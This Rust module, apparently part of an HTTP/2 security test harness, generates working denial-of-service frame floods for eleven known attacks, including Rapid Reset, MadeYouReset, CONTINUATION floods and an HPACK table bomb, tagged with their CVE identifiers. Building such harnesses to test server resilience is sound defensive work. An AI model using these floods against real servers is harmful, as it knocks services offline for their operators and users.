//! What attackers of HTTP/2 send (security's D1 to D8): each a piece that is sent again and again.

use super::raw::{self, frame};

/// One way to make a server work for nothing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// D1, CVE-2023-44487: requests, each taken back at once.
    RapidReset,
    /// D1 again: taken back once they are under way.
    SlowReset,
    /// D2, CVE-2025-8671: requests that the server itself must reset.
    MadeYouReset,
    /// D3, CVE-2024-27316: a head without end.
    Continuation,
    /// D4, RUSTSEC-2026-0258: data that holds nothing.
    EmptyData,
    /// D5.
    Ping,
    /// D6.
    Settings,
    /// D7: an order among streams that nobody keeps.
    Priority,
    /// D7: windows opened by a byte at a time.
    WindowUpdate,
    /// Frames of a type that nobody knows.
    Unknown,
    /// D8: a large field, put into the table once and named a thousand times.
    HpackBomb,
}

impl Kind {
    pub const ALL: [Self; 11] = [
        Self::RapidReset,
        Self::SlowReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Ping,
        Self::Settings,
        Self::Priority,
        Self::WindowUpdate,
        Self::Unknown,
        Self::HpackBomb,
    ];
}

/// Bytes of one attack, one piece after the other.
#[derive(Debug)]
pub struct Flooder {
    kind: Kind,
    call: Vec<u8>,
    stream: u32,
}

impl Flooder {
    /// Calls are made to `path`, with a credential if there is one.
    pub fn new(kind: Kind, path: &str, authorization: Option<&str>) -> Self {
        Self {
            kind,
            call: raw::call(path, authorization),
            stream: 1,
        }
    }

    /// What the connection begins with.
    pub fn first(&self) -> Vec<u8> {
        let mut first = raw::greeting(&[]);
        match self.kind {
            Kind::Continuation => first.extend(frame(raw::HEADERS, 0, 1, &self.call)),
            Kind::EmptyData => {
                first.extend(frame(raw::HEADERS, raw::END_HEADERS, 1, &self.call));
            }
            Kind::HpackBomb => {
                let mut block = self.call.clone();
                // With incremental indexing.
                block.push(0x40);
                raw::text(&mut block, "x");
                raw::text(&mut block, &"x".repeat(3_000));
                first.extend(frame(raw::HEADERS, END, 1, &block));
            }
            Kind::RapidReset
            | Kind::SlowReset
            | Kind::MadeYouReset
            | Kind::Ping
            | Kind::Settings
            | Kind::Priority
            | Kind::WindowUpdate
            | Kind::Unknown => {}
        }
        first
    }

    /// The next piece.
    pub fn next(&mut self) -> Vec<u8> {
        let mut bytes = Vec::new();
        for _ in 0..64 {
            self.append(&mut bytes);
        }
        bytes
    }

    fn append(&mut self, bytes: &mut Vec<u8>) {
        match self.kind {
            Kind::RapidReset => {
                let stream = self.request(bytes, END);
                bytes.extend(frame(raw::RST_STREAM, 0, stream, &CANCEL));
            }
            Kind::SlowReset => {
                // Sixty-four are opened, and then taken back.
                let stream = self.request(bytes, raw::END_HEADERS);
                if let Some(earlier) = stream.checked_sub(2 * 64) {
                    bytes.extend(frame(raw::RST_STREAM, 0, earlier, &CANCEL));
                }
            }
            Kind::MadeYouReset => {
                let stream = self.request(bytes, raw::END_HEADERS);
                let too_far = 0x7fff_ffff_u32.to_be_bytes();
                bytes.extend(frame(raw::WINDOW_UPDATE, 0, stream, &too_far));
            }
            Kind::Continuation => {
                let more = raw::block(&[("x", "y")]);
                bytes.extend(frame(raw::CONTINUATION, 0, 1, &more));
            }
            Kind::EmptyData => bytes.extend(frame(raw::DATA, 0, 1, &[])),
            Kind::Ping => bytes.extend(frame(raw::PING, 0, 0, &[7; 8])),
            Kind::Settings => {
                // The size of the table that answers are written with.
                let table = [0, 1, 0, 0, 0x10, 0];
                bytes.extend(frame(raw::SETTINGS, 0, 0, &table));
            }
            Kind::Priority => {
                let (stream, order) = (self.next_stream(), [0, 0, 0, 0, 16]);
                bytes.extend(frame(raw::PRIORITY, 0, stream, &order));
            }
            Kind::WindowUpdate => {
                bytes.extend(frame(raw::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]));
            }
            Kind::Unknown => bytes.extend(frame(0xbe, 0, 0, &[0; 16])),
            Kind::HpackBomb => {
                let mut block = self.call.clone();
                // The newest of the table, again and again.
                block.extend([0xbe; 8_000]);
                let stream = self.next_stream();
                bytes.extend(frame(raw::HEADERS, END, stream, &block));
            }
        }
    }

    fn request(&mut self, bytes: &mut Vec<u8>, flags: u8) -> u32 {
        let stream = self.next_stream();
        bytes.extend(frame(raw::HEADERS, flags, stream, &self.call));
        stream
    }

    fn next_stream(&mut self) -> u32 {
        self.stream += 2;
        self.stream
    }
}

const END: u8 = raw::END_HEADERS | raw::END_STREAM;
/// The code of a request that is taken back.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
